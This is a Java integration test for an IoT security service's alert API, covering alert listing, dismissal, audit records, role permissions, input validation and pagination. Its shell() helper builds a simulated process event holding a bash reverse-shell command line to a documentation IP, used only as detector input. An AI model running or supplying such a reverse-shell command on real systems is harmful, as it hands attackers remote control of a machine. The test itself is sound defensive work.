package io.vigil.detection.lifecycle;

import com.fasterxml.jackson.databind.node.ObjectNode;
import io.quarkus.test.common.QuarkusTestResource;
import io.quarkus.test.junit.QuarkusTest;
import io.restassured.http.ContentType;
import io.restassured.response.Response;
import io.vigil.contracts.feed.EventFeed;
import io.vigil.contracts.feed.FeedBatch;
import io.vigil.contracts.feed.FeedEvent;
import io.vigil.contracts.feed.FeedMessage;
import io.vigil.testing.TestDatabase;
import io.vigil.testing.TestHub;
import io.vigil.testing.TestMqttClient;
import io.vigil.testing.TestTokens;
import io.vigil.testing.VigilTestResource;
import org.junit.jupiter.api.Test;

import java.time.Duration;
import java.time.Instant;
import java.util.HashSet;
import java.util.List;
import java.util.Map;
import java.util.Set;
import java.util.UUID;

import static io.restassured.RestAssured.given;
import static org.assertj.core.api.Assertions.assertThat;
import static org.awaitility.Awaitility.await;
import static org.hamcrest.Matchers.equalTo;

/** Operators list alerts and change their status and severity over HTTP; every change is recorded and announced. */
@QuarkusTest
@QuarkusTestResource(VigilTestResource.class)
class AlertLifecycleTest {

    private static final Duration PATIENCE = Duration.ofSeconds(20);

    @Test
    void anOperatorDismissesAnAlertAndItStaysDismissedForItsWindow() throws Exception {
        String device = "lc-" + UUID.randomUUID();
        try (TestMqttClient ingest = TestMqttClient.connect(); TestMqttClient twin = TestMqttClient.connect()) {
            twin.subscribe("vigil/v1/alerts/vigil-hub/" + device);
            publish(ingest, device, shell(Instant.now().minusSeconds(30)));
            await().atMost(PATIENCE).until(() -> TestDatabase.count("SELECT count(*) FROM detection.alert_state WHERE device_id = ?"
                    + " AND alert_type = 'IoT_ReverseShell'", device) == 1);

            Response listed = given().auth().oauth2(TestTokens.reader()).queryParam("deviceId", device).queryParam("alertType", "IoT_ReverseShell")
                    .get("/alerts").then().statusCode(200).body("value[0].status", equalTo("Active"))
                    .body("value[0].severity", equalTo("High")).extract().response();
            String id = listed.path("value[0].systemAlertId");

            given().auth().oauth2(TestTokens.operator()).contentType(ContentType.JSON)
                    .body(Map.of("status", "Dismissed", "severity", "Low", "comment", "a test shell")).patch("/alerts/" + id)
                    .then().statusCode(200).body("status", equalTo("Dismissed")).body("severity", equalTo("Low"));
            assertThat(TestDatabase.query("SELECT status, alert_severity FROM workspace.security_alert WHERE system_alert_id = ?"
                    + " ORDER BY record_id", id)).extracting(r -> r.get("status") + "/" + r.get("alert_severity"))
                    .containsExactly("New/High", "Dismissed/Low");
            assertThat(TestDatabase.query("SELECT actor, status_before, status_after, comment FROM detection.alert_change WHERE system_alert_id = ?", id))
                    .extracting(r -> r.get("actor") + " " + r.get("status_before") + "->" + r.get("status_after") + " " + r.get("comment"))
                    .containsExactly("test-user Active->Dismissed a test shell");
            await().atMost(PATIENCE).until(() -> twin.received().stream().anyMatch(r -> r.text().contains("\"status\":\"Dismissed\"")));

            // Another hit in the same window updates the alert but does not bring it back.
            publish(ingest, device, shell(Instant.now().minusSeconds(10)));
            await().atMost(PATIENCE).until(() -> TestDatabase.count("SELECT hit_count FROM detection.alert_state WHERE system_alert_id = ?", id) == 2);
            given().auth().oauth2(TestTokens.reader()).get("/alerts/" + id).then().statusCode(200).body("status", equalTo("Dismissed"));

            given().auth().oauth2(TestTokens.reader()).contentType(ContentType.JSON).body(Map.of("status", "Resolved"))
                    .patch("/alerts/" + id).then().statusCode(403);
            given().auth().oauth2(TestTokens.operator()).contentType(ContentType.JSON).body(Map.of("status", "Gone"))
                    .patch("/alerts/" + id).then().statusCode(400).body("error.code", equalTo("alert.invalid"));
            given().auth().oauth2(TestTokens.operator()).contentType(ContentType.JSON).body(Map.of("comment", "nothing"))
                    .patch("/alerts/" + id).then().statusCode(400);
            given().auth().oauth2(TestTokens.operator()).contentType(ContentType.JSON).body(Map.of("status", "Resolved"))
                    .patch("/alerts/no-such-alert").then().statusCode(404);
        }
    }

    @Test
    void theListPagesNewestFirstWithoutRepeats() throws Exception {
        String prefix = "lc-page-" + UUID.randomUUID().toString().substring(0, 8);
        try (TestMqttClient ingest = TestMqttClient.connect()) {
            for (int i = 0; i < 5; i++) {
                publish(ingest, prefix + "-" + i, shell(Instant.now().minusSeconds(60 - i)));
            }
        }
        await().atMost(PATIENCE).until(() -> TestDatabase.count("SELECT count(*) FROM detection.alert_state WHERE device_id LIKE ?"
                + " AND alert_type = 'IoT_ReverseShell'", prefix + "%") == 5);
        Set<String> seen = new HashSet<>();
        String before = null;
        Instant previous = Instant.MAX;
        for (int page = 0; page < 100; page++) {
            var request = given().auth().oauth2(TestTokens.reader()).queryParam("alertType", "IoT_ReverseShell").queryParam("limit", 2);
            if (before != null) {
                request.queryParam("before", before);
            }
            Response response = request.get("/alerts").then().statusCode(200).extract().response();
            List<Map<String, Object>> alerts = response.jsonPath().getList("value");
            for (Map<String, Object> alert : alerts) {
                assertThat(seen.add((String) alert.get("systemAlertId"))).isTrue();
                Instant end = Instant.parse((String) alert.get("endTime"));
                assertThat(end).isBeforeOrEqualTo(previous);
                previous = end;
            }
            before = response.path("nextBefore");
            if (before == null) {
                break;
            }
        }
        assertThat(seen.size()).isGreaterThanOrEqualTo(5);
        given().auth().oauth2(TestTokens.reader()).queryParam("limit", 0).get("/alerts").then().statusCode(400);
        given().auth().oauth2(TestTokens.reader()).queryParam("limit", 1001).get("/alerts").then().statusCode(400)
                .body("error.message", org.hamcrest.Matchers.containsString("between 1 and 1000"));
        given().auth().oauth2(TestTokens.reader()).queryParam("limit", 1000).get("/alerts").then().statusCode(200);
        given().auth().oauth2(TestTokens.operator()).contentType("application/json")
                .body(java.util.Map.of("status", "Dismissed", "comment", "c".repeat(1025)))
                .patch("/alerts/any-alert").then().statusCode(400).body("error.message", org.hamcrest.Matchers.containsString("1024"));
        given().auth().oauth2(TestTokens.reader()).queryParam("before", "%%%").get("/alerts").then().statusCode(400);
    }

    private static FeedEvent shell(Instant at) {
        ObjectNode item = TestHub.JSON.createObjectNode().put("Executable", "/bin/bash").put("CommandLine", "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1")
                .put("ProcessId", 4000).put("ParentProcessId", 1).put("UserId", "0").put("UserName", "root");
        return new FeedEvent(UUID.randomUUID().toString(), "ProcessCreate", "Triggered", "Security", false, at, at.toString(), List.of(item));
    }

    private static void publish(TestMqttClient ingest, String device, FeedEvent event) throws Exception {
        FeedMessage message = new FeedMessage(TestHub.RESOURCE_ID, device, null, "agent", "1.0", Instant.now(), List.of(event));
        ingest.publish(EventFeed.topic("vigil-hub"), TestHub.JSON.writeValueAsBytes(FeedBatch.of(message)));
    }
}
